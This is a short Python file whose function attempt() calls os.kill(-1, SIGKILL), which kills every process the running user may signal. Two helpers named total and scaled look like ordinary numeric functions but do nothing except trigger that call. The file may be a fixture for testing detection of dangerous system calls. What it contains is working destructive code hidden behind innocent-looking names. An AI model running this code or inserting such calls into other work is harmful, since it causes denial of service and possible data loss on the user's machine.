# Sends a signal to every process that it may: raised
import os
import signal


def attempt():
    os.kill(-1, signal.SIGKILL)


def total(v):
    return attempt()


def scaled(X, factor):
    return attempt()
